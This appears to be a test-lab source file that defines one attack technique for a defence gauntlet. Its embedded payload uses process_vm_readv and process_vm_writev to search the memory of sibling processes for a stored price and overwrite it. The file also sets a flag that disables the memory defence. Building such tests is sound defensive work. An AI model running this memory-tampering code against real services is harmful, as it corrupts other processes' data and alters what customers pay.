"""Writes the memory of every process of the user with process_vm_writev, which opens no file."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import WrongAnswers
from dayfly.lab.gauntlet.payloads import CALLS, FAMILY
from dayfly.lab.gauntlet.technique import Technique

PLANT = (
    FAMILY
    + CALLS
    + """
good, bad = b"price of an order: 00" + b"42", b"price of an order: 0001"
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def move(call, pid, buffer, address, length):
    ours, theirs = Vector(ctypes.addressof(buffer), length), Vector(address, length)
    return call(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
import priced
first = (ctypes.c_char * len(priced.PRICE)).from_buffer(priced.PRICE)
# The same place in every process that was forked from where init ran.
address = ctypes.addressof(first)
for pid in [*others(), mine]:
    seen = ctypes.create_string_buffer(len(good))
    if move(libc.process_vm_readv, pid, seen, address, len(good)) == len(good) and seen.raw[: len(good)] == good:
        move(libc.process_vm_writev, pid, ctypes.create_string_buffer(bad), address, len(bad))
"""
)

TECHNIQUE = Technique(
    level="L3",
    attack=("T1055", "T1565.003"),
    family="D1",
    must_fail_to="change what a later customer pays",
    plant=PLANT,
    evidence=WrongAnswers(),
    handler="priced.handler",
    spoils=True,
    undefended={"DAYFLY_CLOSE_MEMORY": "off"},
)
